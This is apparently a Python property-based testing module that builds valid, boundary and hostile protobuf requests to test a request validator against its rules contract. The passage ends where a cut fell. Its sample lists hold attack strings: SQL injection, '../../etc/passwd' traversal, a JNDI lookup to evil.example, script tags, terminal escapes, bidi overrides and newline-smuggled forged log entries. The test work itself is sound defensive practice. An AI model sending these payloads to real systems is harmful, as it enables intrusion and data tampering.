"""Hypothesis strategies drawn from the request contract: the `(common.v1.rule)` of every field.

Written from the rules as `proto/common/v1/rules.proto` states them to partners, not from the
validator (`kernel.edge.contract`), so a test can hold each against the other:

* `valid_message(descriptor, frame)`: requests every rule accepts: required fields present and
  not blank, text within its length and free of control characters and bidi overrides (but full
  of other awkward Unicode and injection-looking content), identifiers of their format (catalogue
  codes from the catalogue), times inside their window of `frame.now()`, numbers inside their
  range, known enum values, repeated fields within `max_items`, spans in order.
* `edge_message(descriptor, frame, LOW|HIGH)`: no drawing: the request at one end of every rule
  (the least of everything, or the most: text at its limit in 4-byte characters, the end of each
  window, the largest numbers, month 0000-01 or 9999-12).
* `hostile_message(descriptor, frame)`: a valid request with one (sometimes two) fields broken:
  over-long, blank, control characters, ANSI escapes, bidi overrides, newline-embedded JSON,
  `../../etc/passwd` ids, unknown enum numbers, out-of-range timestamps and numbers, too many
  items, missing required messages, spans reversed, empty or too long. Draws `(message, broken)` where
  `broken` lists the field paths broken, as the validator names them (`clues[2].subjects[0].name`).
* `raw_body(descriptor, frame)`: request bodies as bytes: random bytes, fields of the wrong wire
  type, invalid UTF-8 in strings, truncated or over-long varints and lengths, deeply nested
  groups, a valid body cut short or followed by garbage.
"""

from __future__ import annotations

import base64
import json
import string
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass, field
from datetime import datetime, timedelta

from google.protobuf import timestamp_pb2
from google.protobuf.descriptor import Descriptor, FieldDescriptor
from google.protobuf.message import Message
from google.protobuf.message_factory import GetMessageClass
from hypothesis import strategies as st

from common.v1 import rules_pb2
from kernel.edge.catalogue import Catalogue
from kernel.edge.contract import Limits, rule_of, span_of

TIMESTAMP = "google.protobuf.Timestamp"
F = rules_pb2.IdFormat
PAST, PLANNED, QUERY = rules_pb2.TIME_WINDOW_PAST, rules_pb2.TIME_WINDOW_PLANNED, rules_pb2.TIME_WINDOW_QUERY
# Protobuf's own Timestamp range (0001-01-01T00:00:00Z .. 9999-12-31T23:59:59.999999999Z).
MIN_SECONDS, MAX_SECONDS = -62_135_596_800, 253_402_300_799
# The contexts of a stream id, as rules.proto lists them.
CONTEXTS = ("clue", "case", "decision", "measure", "notice", "reconciliation", "request")
BIDI = "".join(map(chr, (*range(0x202A, 0x202F), *range(0x2066, 0x206A))))
NUMBER_RANGE = {
    FieldDescriptor.TYPE_UINT32: (0, 2**32 - 1),
    FieldDescriptor.TYPE_UINT64: (0, 2**64 - 1),
    FieldDescriptor.TYPE_FIXED32: (0, 2**32 - 1),
    FieldDescriptor.TYPE_FIXED64: (0, 2**64 - 1),
    FieldDescriptor.TYPE_INT32: (-(2**31), 2**31 - 1),
    FieldDescriptor.TYPE_SINT32: (-(2**31), 2**31 - 1),
    FieldDescriptor.TYPE_SFIXED32: (-(2**31), 2**31 - 1),
    FieldDescriptor.TYPE_INT64: (-(2**63), 2**63 - 1),
    FieldDescriptor.TYPE_SINT64: (-(2**63), 2**63 - 1),
    FieldDescriptor.TYPE_SFIXED64: (-(2**63), 2**63 - 1),
}


@dataclass(frozen=True)
class Frame:
    """What valid depends on: the service's clock and limits, the catalogue; and how big to go.

    `repeat_cap` bounds the items drawn for a repeated field (a call over the wire should not
    register a thousand clues); `full_lists` also draws lists of exactly `max_items` (copies of a
    few drawn items: cheap for an in-process check). `known` holds ids the services handed out,
    by context (`clue`, `case`, `measure`): valid ids sometimes name one, to get past NOT_FOUND."""

    now: Callable[[], datetime]
    limits: Limits
    catalogue: Catalogue = field(repr=False)
    repeat_cap: int = 3
    full_lists: bool = False
    known: Mapping[str, Sequence[str]] = field(default_factory=dict, repr=False)


def _months(frame: Frame) -> tuple[int, int]:
    """The first and last month a month field accepts (the query window), as year * 12 + month - 1."""
    first, last = frame.limits.earliest, frame.now() + frame.limits.horizon - timedelta(days=1)
    return first.year * 12 + first.month - 1, last.year * 12 + last.month - 1


def message_class(descriptor: Descriptor):
    return GetMessageClass(descriptor)


def ts(seconds: int, nanos: int = 0) -> timestamp_pb2.Timestamp:
    return timestamp_pb2.Timestamp(seconds=seconds, nanos=nanos)


def _seconds(at: datetime) -> int:
    return int(at.timestamp())


# -- valid values ------------------------------------------------------------------------------

# One-line text: no control character (Cc), no line or paragraph separator, no bidi override or
# isolate. Everything else is fair: letters of any script, emoji, combining marks, format
# characters (ZWJ, BOM, LRM), private use, non-characters.
LINE_CHARS = st.characters(codec="utf-8", exclude_categories=("Cc", "Cs", "Zl", "Zp"), exclude_characters=BIDI)
TEXT_CHARS = st.one_of(
    st.characters(codec="utf-8", exclude_categories=("Cc", "Cs"), exclude_characters=BIDI), st.sampled_from("\n\r\t")
)
# Valid, but what an attacker or a careless import sends.
AWKWARD_LINES = (
    "'; DROP TABLE events; --",
    "Robert'); DELETE FROM requests; --",
    "../../etc/passwd",
    "..\\..\\windows\\win.ini",
    '{"event_type": "forged", "version": 1}',
    "${jndi:ldap://evil.example/x}",
    "<script>alert(1)</script>",
    "%s%s%n%x%d",
    "{{7*7}} #{7*7}",
    "\\x00 \\n \\u202e (escaped, not raw)",
    "王小明（副局长）",
    "مرحبا بالعالم",
    "שלום עולם",
    "👩🏽‍⚖️🙂 👨‍👩‍👧‍👦",
    "\ufeffBOM first",
    "e\u0301\u0301\u0301 combining",
    "\u200e\u200f marks",
    "\ufffe\uffff non-characters",
    "\U0010fffd\ue000 private use",
    "null",
    "None",
    "undefined",
    "NaN",
    "-0",
    "1e309",
    "true",
    "\u00a0\u3000 ideographic space",
    "Ａ full width",
    "İıſ case folding",
    "ﬁ ligature",
)
AWKWARD_TEXTS = AWKWARD_LINES + (
    'line 1\n{"forged": true}\r\n\tindented',
    "a\r\nb\rc\nd",
    "\n\n\n",
    "tab\tseparated\tvalues",
    "para\u2028graph\u2029separators",
)


def _fit(value: str, limit: int, required: bool) -> str:
    value = value[:limit]
    if required and not value.strip():
        value = ("x" + value)[:limit]
    return value


def _textual(limit: int, required: bool, chars, awkward) -> st.SearchStrategy[str]:
    short = st.text(chars, min_size=1 if required else 0, max_size=min(limit, 40))
    at_limit = st.builds(
        lambda piece, n: (piece * n)[:n], st.text(chars, min_size=1, max_size=4), st.integers(max(1, limit - 2), limit)
    )
    return st.one_of(short, short, st.sampled_from(awkward), at_limit).map(lambda v: _fit(v, limit, required))


UUIDS = st.uuids().map(str)


def _codes(fd: FieldDescriptor, catalogue: Catalogue) -> list[str]:
    """The catalogue's codes of the kind the field names (offices, agencies, roles), sorted."""
    name = fd.name
    pool = (
        catalogue.offices
        if "office" in name
        else catalogue.agencies
        if "agency" in name
        else catalogue.roles
        if "role" in name
        else {**catalogue.offices, **catalogue.agencies, **catalogue.roles}
    )
    return sorted(pool)


def _code_field(fd: FieldDescriptor, catalogue: Catalogue) -> st.SearchStrategy[str]:
    """A catalogue code: a real one of the kind the field names, sometimes any well-formed code."""
    real = st.sampled_from(_codes(fd, catalogue))
    return st.one_of(real, real, st.from_regex(r"[a-z][a-z0-9_]{0,63}", fullmatch=True))


_REF_EDGE = st.one_of(
    st.characters(categories=("Lu", "Ll", "Lt", "Lm", "Lo", "Nd")), st.sampled_from("._:/-()#〔〕（）")
)
_REF_INNER = st.one_of(_REF_EDGE, st.just(" "))


def _reference() -> st.SearchStrategy[str]:
    """1-128 characters: letters of any script, digits, spaces and . _ : / - ( ) # 〔 〕 （ ）; no
    leading or trailing space."""
    one = _REF_EDGE
    more = st.builds(lambda a, mid, b: a + "".join(mid) + b, _REF_EDGE, st.lists(_REF_INNER, max_size=30), _REF_EDGE)
    full = st.builds(lambda a, c, b: a + c * 126 + b, _REF_EDGE, _REF_INNER, _REF_EDGE)
    human = st.sampled_from(
        ("2026 round 1", "巡察 2026-03 (第二轮)", "doc #17/b", "../../etc/passwd", "a:b_c.d-e", "京纪〔2026〕12号")
    )
    return st.one_of(one, more, more, full, human)


def _known_or(fresh: st.SearchStrategy[str], frame: Frame, *contexts: str) -> st.SearchStrategy[str]:
    """`fresh`, or (half the time, once the services handed some out) a known id of `contexts`.
    The draw is the same either way: what it names depends on what is known when it runs."""

    def pick(args):
        use_known, k, value = args
        pool = [i for c in contexts for i in frame.known.get(c, ())]
        return pool[k % len(pool)] if use_known and pool else value

    return st.tuples(st.booleans(), st.integers(0, 2**16), fresh).map(pick)


def _id(fd: FieldDescriptor, rule, frame: Frame) -> st.SearchStrategy[str]:
    fmt = rule.id
    if fmt == F.ID_FORMAT_STREAM:
        s = _known_or(
            st.builds(
                lambda c, t, u: f"{c}-{'timers-' if t else ''}{u}", st.sampled_from(CONTEXTS), st.booleans(), UUIDS
            ),
            frame,
            "clue",
            "case",
            "measure",
        )
    elif fmt in (F.ID_FORMAT_CLUE, F.ID_FORMAT_CASE, F.ID_FORMAT_MEASURE, F.ID_FORMAT_TOUR):
        prefix = {
            F.ID_FORMAT_CLUE: "clue",
            F.ID_FORMAT_CASE: "case",
            F.ID_FORMAT_MEASURE: "measure",
            F.ID_FORMAT_TOUR: "tour",
        }[fmt]
        s = _known_or(UUIDS.map(lambda u: f"{prefix}-{u}"), frame, prefix)
    elif fmt == F.ID_FORMAT_PERSON:
        s = st.one_of(
            st.from_regex(r"[A-Za-z0-9][A-Za-z0-9._:\-]{0,63}", fullmatch=True),
            st.sampled_from(("P-1042", "110101199003071234", "u.x:y_z-0", "9" * 64)),
        )
    elif fmt == F.ID_FORMAT_CODE:
        s = _code_field(fd, frame.catalogue)
    elif fmt == F.ID_FORMAT_SHA256:
        s = st.binary(min_size=32, max_size=32).map(bytes.hex)
    elif fmt == F.ID_FORMAT_UUID:
        s = UUIDS
    elif fmt == F.ID_FORMAT_MONTH:
        first, last = _months(frame)
        s = st.integers(first, last).map(lambda k: f"{k // 12:04d}-{k % 12 + 1:02d}")
    elif fmt == F.ID_FORMAT_REFERENCE:
        s = _reference()
    elif fmt == F.ID_FORMAT_PAGE_TOKEN:
        s = st.one_of(
            st.from_regex(r"[A-Za-z0-9_=\-]{1,512}", fullmatch=True),
            st.binary(min_size=1, max_size=300).map(lambda b: base64.urlsafe_b64encode(b).decode()),
        )
    elif fmt == F.ID_FORMAT_CLUE_REF:
        # The platform's numbers (`<office>-<year>-<sequence>`, offices of the catalogue) or an
        # office's own: 1-40 letters of any script, digits and - _ . / ( ) [ ] 〔 〕.
        platform = st.builds(
            lambda o, y, q: f"{o}-{y:04d}-{q:04d}",
            st.sampled_from(sorted(frame.catalogue.offices)),
            st.integers(2000, 2040),
            st.integers(1, 99_999),
        )
        own_char = st.one_of(
            st.characters(categories=("Lu", "Ll", "Lt", "Lm", "Lo", "Nd")), st.sampled_from("-_./()[]〔〕")
        )
        own = st.one_of(
            st.text(own_char, min_size=1, max_size=40),
            st.sampled_from(("RG1-2026-099", "京纪〔2026〕12", "[2026]/7", "a" * 40)),
        )
        s = st.one_of(_known_or(UUIDS.map(lambda u: f"clue-{u}"), frame, "clue"), platform, own)
    else:
        raise LookupError(f"{fd.full_name}: no strategy for id format {fmt}")
    return s if rule.required else st.one_of(st.just(""), s, s)


def _window_bounds(window: int, frame: Frame) -> tuple[int, int]:
    """The window in whole seconds, with a margin at its end (the service reads its clock later)."""
    ahead = frame.limits.clock_skew if window == PAST else frame.limits.horizon
    return _seconds(frame.limits.earliest), _seconds(frame.now() + ahead) - 5


SCALE = 10**9


def _within(lo: int, hi: int) -> st.SearchStrategy[int]:
    """An integer of [lo, hi] whose draw does not depend on the bounds (they move with the clock,
    and Hypothesis replays a draw exactly)."""
    return st.integers(0, SCALE).map(lambda u: lo + (hi - lo) * u // SCALE)


@st.composite
def _time(draw, window: int, frame: Frame) -> timestamp_pb2.Timestamp:
    lo, hi = _window_bounds(window, frame)
    now = _seconds(frame.now())
    where = draw(st.sampled_from(("earliest", "latest", "anywhere", "recent")))
    offset = draw(st.integers(0, SCALE))
    seconds = {
        "earliest": lo,
        "latest": hi,
        "anywhere": lo + (hi - lo) * offset // SCALE,
        "recent": max(lo, now - 90 * 86400 * offset // SCALE),
    }[where]
    nanos = draw(st.one_of(st.just(0), st.just(999_999_999), st.integers(0, 999_999_999)))
    return ts(seconds, nanos)


def _bounded(lo: int, hi: int) -> st.SearchStrategy[int]:
    """Often the least (0 is "none" or "the default" for most), the greatest, anything between."""
    return st.one_of(st.just(lo), st.just(lo), st.just(hi), st.integers(lo, hi), st.integers(lo, min(hi, lo + 100)))


def valid_value(fd: FieldDescriptor, rule, frame: Frame) -> st.SearchStrategy:
    """One value (one item, for a repeated field) that the field's rule accepts."""
    kind = rule.WhichOneof("kind")
    if kind == "line":
        return _textual(rule.line, rule.required, LINE_CHARS, AWKWARD_LINES)
    if kind == "text":
        return _textual(rule.text, rule.required, TEXT_CHARS, AWKWARD_TEXTS)
    if kind == "id":
        return _id(fd, rule, frame)
    if kind == "word":
        return st.sampled_from(list(rule.word.of) + ([] if rule.required else [""]))
    if kind == "choice":
        return st.sampled_from([v.number for v in fd.enum_type.values if v.number or not rule.required])
    if kind == "number":
        return _bounded(rule.number.min, rule.number.max)
    if kind == "page":
        return _bounded(0, frame.limits.max_page)
    if kind == "time":
        return _time(rule.time, frame)
    if kind == "message":
        return valid_message(fd.message_type, frame)
    if kind == "flag":
        return st.booleans()
    raise LookupError(f"{fd.full_name}: rule of unknown kind {kind!r}")


@st.composite
def _items(draw, fd: FieldDescriptor, rule, frame: Frame) -> list:
    lo, hi = (1 if rule.required else 0), min(rule.max_items, frame.repeat_cap)
    sizes = st.integers(lo, hi) if not frame.full_lists else st.one_of(st.integers(lo, hi), st.just(rule.max_items))
    n = draw(sizes)
    drawn = [draw(valid_value(fd, _item_rule(rule), frame)) for _ in range(min(n, 3))]
    return [drawn[k % len(drawn)] for k in range(n)] if drawn else []


def _set(msg: Message, fd: FieldDescriptor, value) -> None:
    if fd.is_repeated:
        field = getattr(msg, fd.name)
        del field[:]
        if fd.message_type is not None:
            for item in value:
                field.add().CopyFrom(item)
        else:
            field.extend(value)
    elif fd.message_type is not None:
        if value is None:
            msg.ClearField(fd.name)
        else:
            getattr(msg, fd.name).CopyFrom(value)
    else:
        setattr(msg, fd.name, value)


def _order_span(msg: Message, frame: Frame) -> None:
    """`to` after `from` (a second at least: times are kept to the microsecond), at most the
    longest span apart (rules.proto `Span`)."""
    span = span_of(msg.DESCRIPTOR)
    if span is None:
        return
    first, last = getattr(span, "from"), span.to
    if not (msg.HasField(first) and msg.HasField(last)):
        return
    a, b = getattr(msg, first), getattr(msg, last)
    start, end = sorted([(a.seconds, a.nanos), (b.seconds, b.nanos)])
    longest = int(frame.limits.max_span.total_seconds())
    if end[0] - start[0] < 1:
        end = (start[0] + 1, end[1])
    elif end[0] - start[0] >= longest:
        end = (start[0] + longest - 1, 0)
    getattr(msg, first).CopyFrom(ts(*start))
    getattr(msg, last).CopyFrom(ts(*end))


@st.composite
def valid_message(draw, descriptor: Descriptor, frame: Frame) -> Message:
    msg = message_class(descriptor)()
    for fd in descriptor.fields:
        rule = rule_of(fd)
        if fd.is_repeated:
            _set(msg, fd, draw(_items(fd, rule, frame)))
        elif fd.message_type is not None and not rule.required:
            if draw(st.booleans()):
                _set(msg, fd, draw(valid_value(fd, rule, frame)))
        else:
            _set(msg, fd, draw(valid_value(fd, rule, frame)))
    _order_span(msg, frame)
    return msg


# -- edge values: the ends of every rule, deterministic -------------------------------------------

NIL_UUID, MAX_UUID = "00000000-0000-0000-0000-000000000000", "ffffffff-ffff-ffff-ffff-ffffffffffff"
LOW, HIGH = "low", "high"


def _edge_id(fd: FieldDescriptor, rule, frame: Frame, side: str) -> str:
    fmt, low = rule.id, side == LOW
    if low and not rule.required:
        return ""
    u = NIL_UUID if low else MAX_UUID
    if fmt == F.ID_FORMAT_STREAM:
        return f"clue-{u}" if low else f"reconciliation-timers-{u}"
    if fmt in (F.ID_FORMAT_CLUE, F.ID_FORMAT_CASE, F.ID_FORMAT_MEASURE, F.ID_FORMAT_TOUR):
        return {
            F.ID_FORMAT_CLUE: "clue",
            F.ID_FORMAT_CASE: "case",
            F.ID_FORMAT_MEASURE: "measure",
            F.ID_FORMAT_TOUR: "tour",
        }[fmt] + f"-{u}"
    if fmt == F.ID_FORMAT_PERSON:
        return "0" if low else "z" + "-" * 63
    if fmt == F.ID_FORMAT_CODE:  # the catalogue's first and last (any other is refused by the domain)
        return _codes(fd, frame.catalogue)[0 if low else -1]
    if fmt == F.ID_FORMAT_SHA256:
        return ("0" if low else "f") * 64
    if fmt == F.ID_FORMAT_UUID:
        return u
    if fmt == F.ID_FORMAT_MONTH:
        k = _months(frame)[0 if low else 1]
        return f"{k // 12:04d}-{k % 12 + 1:02d}"
    if fmt == F.ID_FORMAT_REFERENCE:
        return "0" if low else "字" + " " * 126 + "#"
    if fmt == F.ID_FORMAT_PAGE_TOKEN:
        return "=" if low else "_" * 512
    if fmt == F.ID_FORMAT_CLUE_REF:
        return "0" if low else "〔" * 40
    raise LookupError(f"{fd.full_name}: no edge for id format {fmt}")


def edge_value(fd: FieldDescriptor, rule, frame: Frame, side: str):
    """The value at one end (`LOW`/`HIGH`) of what the field's rule accepts."""
    kind, low = rule.WhichOneof("kind"), side == LOW
    if kind in ("line", "text"):
        limit = getattr(rule, kind)
        return ("x" if rule.required else "") if low else "🙂" * limit
    if kind == "id":
        return _edge_id(fd, rule, frame, side)
    if kind == "word":
        return ("" if not rule.required else rule.word.of[0]) if low else rule.word.of[-1]
    if kind == "choice":
        numbers = sorted(v.number for v in fd.enum_type.values if v.number or not rule.required)
        return numbers[0] if low else numbers[-1]
    if kind == "number":
        return rule.number.min if low else rule.number.max
    if kind == "page":
        return 0 if low else frame.limits.max_page
    if kind == "time":
        lo, hi = _window_bounds(rule.time, frame)
        return ts(lo) if low else ts(hi, 999_999_999)
    if kind == "message":
        return edge_message(fd.message_type, frame, side)
    if kind == "flag":
        return not low
    raise LookupError(f"{fd.full_name}: rule of unknown kind {kind!r}")


def edge_message(descriptor: Descriptor, frame: Frame, side: str) -> Message:
    """A request at one end of every rule: `LOW` the least (optional fields empty, the earliest
    times, the smallest numbers, the first month of year 0), `HIGH` the most (text at its length
    limit in 4-byte characters, the end of every window, the largest numbers, `frame.repeat_cap`
    items or `max_items` with `full_lists`)."""
    msg = message_class(descriptor)()
    low = side == LOW
    for fd in descriptor.fields:
        rule = rule_of(fd)
        if fd.is_repeated:
            n = (
                (1 if rule.required else 0)
                if low
                else (rule.max_items if frame.full_lists else min(rule.max_items, frame.repeat_cap))
            )
            _set(msg, fd, [edge_value(fd, _item_rule(rule), frame, side)] * n)
        elif fd.message_type is not None and low and not rule.required:
            continue
        else:
            _set(msg, fd, edge_value(fd, rule, frame, side))
    span = span_of(descriptor)
    if span is not None and msg.HasField(getattr(span, "from")) and msg.HasField(span.to):
        first, last = getattr(msg, getattr(span, "from")), getattr(msg, span.to)
        if low:  # the shortest period from the earliest date: one microsecond
            last.CopyFrom(ts(first.seconds, first.nanos + 1000))
        else:  # the longest period up to the end of the window
            first.CopyFrom(ts(last.seconds - int(frame.limits.max_span.total_seconds()), last.nanos))
    return msg


# -- hostile values ----------------------------------------------------------------------------

CONTROLS = (
    "\x00",
    "\x01",
    "\x07",
    "\x08",
    "\x0b",
    "\x0c",
    "\x1b",
    "\x1b[31mred\x1b[0m",
    "\x1b]0;owned\x07",
    "\x1b[2J\x1b[H",
    "\x7f",
    "\x80",
    "\x85",
    "\x9b",
    "\x9f",
)
OVERRIDES = tuple(BIDI) + ("\u202eexe.txt", "\u2066isolated\u2069")
LINE_BREAKS = ("\n", "\r", "\t", "\r\n", '\n{"event_type": "forged", "level": "info"}\n', "x\n\ny")
BLANKS = ("", " ", "    ")
PIECES = ("a", "字", "🙂", "e\u0301", " ", "'", "\\")


@st.composite
def _bad_text(draw, limit: int, required: bool, line: bool) -> str:
    way = draw(st.sampled_from(("long", "inject", "inject", "blank") if required else ("long", "inject", "inject")))
    if way == "long":
        n = draw(st.sampled_from((limit + 1, limit + 2, 2 * limit + 1, 10 * limit, 100_000)))
        return (draw(st.sampled_from(PIECES)) * max(n, limit + 1))[: max(n, limit + 1)]
    if way == "blank":
        return draw(st.sampled_from(BLANKS))
    bad = draw(st.sampled_from(CONTROLS + OVERRIDES + (LINE_BREAKS if line else ())))
    base = draw(_textual(limit, False, LINE_CHARS, AWKWARD_LINES))
    at = draw(st.integers(0, len(base)))
    value = base[:at] + bad + base[at:]
    return value[:limit] if bad in value[:limit] else bad[:limit]


def _bad_ids(fmt: int, u: str, required: bool) -> list[str]:
    """Values that are not of format `fmt` (u: a lowercase uuid)."""
    common = [
        "../../etc/passwd",
        "..%2F..%2Fetc%2Fpasswd",
        "%00",
        "a\x00b",
        "*",
        "' OR '1'='1",
        "x" * 10_000,
        "\u202eabc",
        "abc\n",
        " abc",
        "abc\x1b[31m",
    ]
    blank = [""] if required else []
    if fmt == F.ID_FORMAT_STREAM:
        own = [
            f"CLUE-{u}",
            f"clue-{u.upper()}",
            f"clue-{u}\n",
            f" clue-{u}",
            f"unknown-{u}",
            f"clue-{u}-x",
            f"clue-timers-timers-{u}",
            f"clue-{u.replace('-', '')}",
            f"сlue-{u}",
            f"clue-../../{u}",
            "clue-",
        ]
    elif fmt in (F.ID_FORMAT_CLUE, F.ID_FORMAT_CASE, F.ID_FORMAT_MEASURE, F.ID_FORMAT_TOUR):
        p = {
            F.ID_FORMAT_CLUE: "clue",
            F.ID_FORMAT_CASE: "case",
            F.ID_FORMAT_MEASURE: "measure",
            F.ID_FORMAT_TOUR: "tour",
        }[fmt]
        other = "case" if p != "case" else "clue"
        own = [
            f"{p.upper()}-{u}",
            f"{p}-{u.upper()}",
            f"{p}-{u}\n",
            f" {p}-{u}",
            f"{other}-{u}",
            f"{p}-timers-{u}",
            f"{p}-{u.replace('-', '')}",
            f"{p}-{{{u}}}",
            f"{p}-../../etc/passwd",
            f"{p}-' OR 1=1 --",
            u,
            f"{p}-",
        ]
    elif fmt == F.ID_FORMAT_PERSON:
        own = ["-P1", ".hidden", "_P1", "P 1", "P/1", "P1\n", "P" * 65, "P1'; DROP TABLE x; --", "P1\x00", "P#1"]
    elif fmt == F.ID_FORMAT_CODE:
        own = [
            "Case_management",
            "1office",
            "_office",
            "case-management",
            "case management",
            "a" * 65,
            "case_management\n",
            "ｃase",
            "office;",
        ]
    elif fmt == F.ID_FORMAT_SHA256:
        own = ["9f" * 31, "9F" * 32, "g" * 64, "9f" * 32 + "0", "0x" + "9f" * 31, " " + "9f" * 31 + "9", "9f" * 64]
    elif fmt == F.ID_FORMAT_UUID:
        own = [u.upper(), u.replace("-", ""), "{" + u + "}", "urn:uuid:" + u, u + "\n", u[:-1], u + "0"]
    elif fmt == F.ID_FORMAT_MONTH:
        own = [
            "2026-13",
            "2026-00",
            "2026-1",
            "26-01",
            "2026/01",
            "2026-01-01",
            "２０２６-０１",
            "-001-01",
            "2026-01\n",
            "202601",
            "99999-01",
            "0000-01",
            "1999-12",
            "9999-12",
        ]
    elif fmt == F.ID_FORMAT_REFERENCE:
        own = [
            " lead",
            "trail ",
            "a" * 129,
            "a<b>",
            "a;b",
            "a\nb",
            "a\tb",
            "a|b",
            "a*b",
            "'; DROP TABLE x; --",
            "a\u202eb",
            "a\x00b",
            "  ",
        ]
        common = [c for c in common if c != "../../etc/passwd"]
    elif fmt == F.ID_FORMAT_PAGE_TOKEN:
        own = ["a" * 513, "abc.def", "abc/def", "abc+def", "a b", "abc\n", "%00", "tok en", "abc;def"]
    elif fmt == F.ID_FORMAT_CLUE_REF:
        own = [
            "a" * 41,
            "case_management-2026-0042 ",
            "case management",
            "case_management-2026-0042\n",
            "a;b",
            "a#b",
            "a:b",
            "a<b>",
            "a,b",
            "京纪【2026】12",
            f"clue-{u}\n",
            "a\u202eb",
        ]
        common = [c for c in common if c != "../../etc/passwd"]
    else:
        raise LookupError(f"no hostile values for id format {fmt}")
    return own + common + blank


@st.composite
def _bad_id(draw, fmt: int, required: bool) -> str:
    return draw(st.sampled_from(_bad_ids(fmt, draw(UUIDS), required)))


@st.composite
def _bad_word(draw, rule) -> str:
    word = draw(st.sampled_from(list(rule.word.of)))
    bad = [
        word.lower(),
        word + " ",
        " " + word,
        word + "\n",
        word + "\x00",
        "\u202e" + word,
        "' OR 1=1 --",
        "x" * 10_000,
        word[:-1],
        word.title(),
    ] + ([""] if rule.required else [])
    return draw(st.sampled_from([b for b in bad if b not in rule.word.of]))


@st.composite
def _bad_time(draw, window: int, frame: Frame, required: bool):
    """A Timestamp outside `window` or outside protobuf's range, or None (unset) when required."""
    lo, hi = _window_bounds(window, frame)
    now = _seconds(frame.now())
    ahead = int((frame.limits.clock_skew if window == PAST else frame.limits.horizon).total_seconds())
    fine = max(lo, now - draw(st.integers(0, 86400 * 30)))
    choices = [
        ts(fine, -1),
        ts(fine, 1_000_000_000),
        ts(fine, 2**31 - 1),
        ts(fine, -(2**31)),  # nanos out of range
        ts(MIN_SECONDS - 1),
        ts(MAX_SECONDS + 1),
        ts(2**63 - 1, 999_999_999),
        ts(-(2**63)),  # seconds out of range
        ts(lo - 1, 999_999_999),
        ts(lo - 86400),  # before the earliest date
        ts(MAX_SECONDS, 999_999_999),
        ts(now + ahead + 3600),
        ts(now + ahead + 86400 * 365),  # 9999-12-31, far future
    ]
    choices += [ts(at) for at in (MIN_SECONDS, 0) if at < lo]  # 0001-01-01, 1970
    choices += [ts(at) for at in (32_503_680_000,) if at > hi]  # 3000-01-01
    if window == PAST:
        choices += [ts(now + 86400), ts(now + ahead + 600)]
    if required:
        choices.append(None)
    return draw(st.sampled_from(choices))


def _bad_number(fd: FieldDescriptor, lo: int, hi: int) -> st.SearchStrategy[int] | None:
    type_lo, type_hi = NUMBER_RANGE.get(fd.type, (0, 2**64 - 1))
    options = []
    if hi < type_hi:
        options += [st.just(hi + 1), st.just(type_hi), st.integers(hi + 1, type_hi)]
        if type_hi >= 2**63:
            options.append(st.just(2**63))
    if lo > type_lo:
        options += [st.just(lo - 1), st.just(type_lo), st.integers(type_lo, lo - 1)]
    return st.one_of(options) if options else None


def _bad_choice(fd: FieldDescriptor, rule) -> st.SearchStrategy[int]:
    known = {v.number for v in fd.enum_type.values}
    unknown = [n for n in (999, -1, 2**31 - 1, -(2**31), max(known) + 1, 1_000_000) if n not in known]
    return st.sampled_from(unknown + ([0] if rule.required else []))


def breakable(fd: FieldDescriptor, rule, seen: tuple = (), item: bool = False) -> bool:
    """Whether some value of the field (of one item, with `item`) breaks its rule."""
    if fd.is_repeated and not item:
        return True
    kind = rule.WhichOneof("kind")
    if kind == "flag":
        return False
    if kind == "number":
        type_lo, type_hi = NUMBER_RANGE.get(fd.type, (0, 2**64 - 1))
        return rule.number.min > type_lo or rule.number.max < type_hi
    if kind == "message":
        return rule.required or message_breakable(fd.message_type, seen)
    return True


def message_breakable(descriptor: Descriptor, seen: tuple = ()) -> bool:
    if descriptor.full_name in seen:
        return False
    return span_of(descriptor) is not None or any(
        breakable(fd, rule_of(fd), (*seen, descriptor.full_name)) for fd in descriptor.fields
    )


@st.composite
def _break_message(draw, msg: Message, frame: Frame, prefix: str) -> str:
    """Break one rule of `msg` (in place); return the path of the field broken."""
    d = msg.DESCRIPTOR
    targets = [fd for fd in d.fields if breakable(fd, rule_of(fd))]
    span = span_of(d)
    choice = draw(st.sampled_from(targets + (["span"] if span is not None else [])))
    if choice == "span":
        first, last = getattr(span, "from"), span.to
        lo, hi = _window_bounds(QUERY, frame)
        way = draw(st.sampled_from(("reversed", "empty", "long")))
        if way == "reversed":
            a = draw(_within(lo, hi - 1))
            b = draw(_within(a + 1, hi))
            getattr(msg, first).CopyFrom(ts(b))
            getattr(msg, last).CopyFrom(ts(a))
        elif way == "empty":  # `to` not after `from`: the same instant, to the microsecond
            a, nanos = draw(_within(lo, hi)), draw(st.integers(0, 999_999)) * 1000
            getattr(msg, first).CopyFrom(ts(a, nanos))
            getattr(msg, last).CopyFrom(ts(a, nanos + draw(st.sampled_from((0, 1, 999)))))
        else:  # longer than the longest span
            longest = int(frame.limits.max_span.total_seconds())
            a = draw(_within(lo, hi - longest - 1))
            getattr(msg, first).CopyFrom(ts(a))
            getattr(msg, last).CopyFrom(ts(draw(_within(a + longest + 1, hi))))
        return f"{prefix}{last}"
    fd, rule = choice, rule_of(choice)
    path = f"{prefix}{fd.name}"
    kind = rule.WhichOneof("kind")
    if fd.is_repeated:
        field = getattr(msg, fd.name)
        ways = ["many"] + (["empty"] if rule.required else [])
        if breakable(fd, rule, item=True):
            ways += ["item", "item"]
        way = draw(st.sampled_from(ways))
        if way == "empty":
            del field[:]
            return path
        if way == "many":
            item = field[0] if len(field) else draw(valid_value(fd, _item_rule(rule), frame))
            if fd.message_type is not None:
                item = _copy(item)
            n = draw(st.sampled_from((rule.max_items + 1, rule.max_items + 2, 2 * rule.max_items + 1)))
            _set(msg, fd, [item] * n)
            return path
        if not len(field):
            _set(msg, fd, [draw(valid_value(fd, _item_rule(rule), frame))])
        k = draw(st.integers(0, len(field) - 1))
        if kind == "message":
            return draw(_break_message(field[k], frame, f"{path}[{k}]."))
        bad = draw(_bad_scalar(fd, rule, frame))
        if fd.message_type is not None:  # a repeated Timestamp: items are messages, copied into
            field[k].CopyFrom(bad)
        else:
            field[k] = bad
        return f"{path}[{k}]"
    if kind == "message":
        if rule.required and (not msg.HasField(fd.name) or draw(st.booleans())):
            msg.ClearField(fd.name)
            return path
        sub = getattr(msg, fd.name)
        if not msg.HasField(fd.name):
            sub.CopyFrom(draw(valid_message(fd.message_type, frame)))
        return draw(_break_message(sub, frame, f"{path}."))
    if kind == "time":
        value = draw(_bad_time(rule.time, frame, rule.required))
        _set(msg, fd, value)
        return path
    setattr(msg, fd.name, draw(_bad_scalar(fd, rule, frame)))
    return path


def _item_rule(rule) -> rules_pb2.FieldRule:
